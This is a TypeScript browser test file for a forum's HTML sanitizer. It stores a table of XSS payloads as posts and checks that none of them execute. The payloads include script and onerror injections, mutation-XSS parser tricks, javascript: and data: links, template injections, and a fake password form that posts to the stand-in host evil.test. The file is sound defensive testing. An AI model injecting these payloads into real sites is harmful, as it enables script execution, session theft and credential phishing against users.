import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openClient } from "../support/backend.ts";
import { openBrowser, openPage } from "../support/browser.ts";
import { demoSite } from "../support/demo-site.ts";
import { enterAs } from "./people.ts";

// Markup that an attacker stored without us, past the worker: what a reader's browser makes of it.

const { url, backendUrl } = demoSite();
const db = openClient({ url: backendUrl, publishableKey: "sb_publishable_local" });

/** Ids of the cases and the markup; 500 KB and 20,000 elements are refused (tests/domain/rich-text). */
const CASES: Record<string, string> = {
  H01: "<script>alert(1)</script>",
  H02: "<img src=x onerror=alert(1)>",
  H04: "<svg><script>alert(1)</script></svg>",
  H05: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  H07: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  H08: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  H10: "<title><img src=x onerror=alert(1)></title>",
  H11: "<xmp><img src=x onerror=alert(1)></xmp>",
  H12: "<select><style></select><img src=x onerror=alert(1)></style>",
  H14: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  H16: '<base href="//evil.test/">',
  H19: "<style>*{background:url(//evil.test)}</style>",
  H21: '<form action="//evil.test"><input type=password name=p><button>Log in</button></form>',
  H22: "<details open ontoggle=alert(1)>x</details>",
  H23: "<video autoplay onloadstart=alert(1)><source src=x></video>",
  H24: '<a id=cookie name=domain href="https://ok.test">x</a>',
  H25: '<p class="fixed inset-0 bg-red-500">x</p>',
  H27: "<!--><img src=x onerror=alert(1)>-->",
  H28: "<![CDATA[><img src=x onerror=alert(1)>]]>",
  H30: '<img src="x` `<script>alert(1)</script>"` `>',
  H32: '<img src="/api/logout">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the case
  H35: '{{constructor.constructor("alert(1)")()}} and ${7*7} and <%=7*7%>',
  H37: "<img src=x onerror=alert(1)>",
  L01: '<a href="javascript:alert(1)">x</a>',
  L03: '<a href="\u0001 javascript:alert(1)">x</a>',
  L04: '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  L05: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  L06: '<a href="vbscript:msgbox(1)">x</a>',
  L09: '<a href="\\\\evil.test">x</a>',
  L10: '<a href="https://app.example@evil.test/">x</a>',
  L11: '<a href="https://xn--pple-43d.com">x</a>',
  L20: '<a href="https://evil.test">https://bank.test</a>',
};
const ELEMENTS = /^(P|H2|H3|BLOCKQUOTE|UL|OL|LI|BR|A|STRONG|EM|U|S|SUB|SUP|CODE|MARK)$/;
const ATTRIBUTES = /^(dir|class|value|href|rel|target|data-host)$/;

let browser: Browser;
let page: Page;
const posts: Record<string, string> = {};
const dialogs: string[] = [];

beforeAll(async () => {
  browser = await openBrowser();
  const opened = await openPage(browser);
  page = opened.page;
  // What the filter and a page may read differently waits for a moderator: its author reads it meanwhile.
  await enterAs(opened.context, url, "omar");
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const broken: string[] = [];
    Object.assign(window, { broken });
    addEventListener("securitypolicyviolation", (event) => broken.push(event.violatedDirective));
  });
  const { data } = await db.auth.signInWithPassword({ email: "omar@hikaya.test", password: "hikaya-demo" });
  const { data: categories } = await db.from("discussion_categories").select("id").limit(1);
  for (const [id, content_html] of Object.entries(CASES)) {
    const { data: post, error } = await db
      .from("posts")
      .insert({
        title: `Case ${id}`,
        content: `Text of ${id}`,
        content_html: `<p>before</p>${content_html}`,
        author_id: data.user?.id ?? "",
        category_id: categories?.[0]?.id ?? "",
      })
      .select("id")
      .single();
    if (!post) throw new Error(`${id}: ${error?.message}`);
    posts[id] = post.id;
  }
});
afterAll(async () => {
  for (const id of Object.values(posts)) await db.rpc("delete_post", { post_id: id });
  await browser?.close();
});

test.each(Object.keys(CASES))("%s runs nothing and leaves only what the editor makes", async (id) => {
  await page.goto(`${url}/forum/post/${posts[id]}`);
  await page.locator(".rich-text").waitFor();
  const found = await page.evaluate(() => {
    const text = document.querySelector(".rich-text");
    return {
      elements: [...(text?.querySelectorAll("*") ?? [])].map((element) => ({
        name: element.tagName,
        attributes: element.getAttributeNames(),
        classes: [...element.classList],
        href: element.getAttribute("href"),
      })),
      broken: Reflect.get(window, "broken") as string[],
      cookie: typeof Reflect.get(document, "cookie"),
    };
  });
  for (const { name, attributes, classes, href } of found.elements) {
    expect(name).toMatch(ELEMENTS);
    for (const attribute of attributes) expect(attribute).toMatch(ATTRIBUTES);
    for (const one of classes) expect(one).toMatch(/^(align|indent)-/);
    if (href !== null) expect(href).toMatch(/^(https?:|mailto:|sms:|tel:|about:blank$)/);
  }
  expect(found.broken).toEqual([]);
  expect(found.cookie).toBe("string");
  expect(dialogs).toEqual([]);
});

test("H35 templates are shown as they are", async () => {
  await page.goto(`${url}/forum/post/${posts.H35}`);
  await page.getByText('{{constructor.constructor("alert(1)")()}}').waitFor();
});

test.each([
  ["L10", "evil.test"],
  ["L11", "xn--pple-43d.com"],
  ["L20", "evil.test"],
])("%s the link says that it leads to %s", async (id, host) => {
  await page.goto(`${url}/forum/post/${posts[id]}`);
  const shown = await page
    .locator(".rich-text a")
    .evaluate((link) => getComputedStyle(link, "::after").content);
  expect(shown).toContain(host);
  await expect
    .poll(() => page.locator(".rich-text a").getAttribute("rel"))
    .toBe("nofollow ugc noopener noreferrer");
});

test("H39 lists, search and the page's own description show the plain text", async () => {
  const html = await (await fetch(`${url}/forum/post/${posts.H01}`)).text();
  expect(html).toContain('content="Text of H01"');
  const list = await (await fetch(`${url}/forum`)).text();
  expect(list).not.toContain("onerror=alert");
});
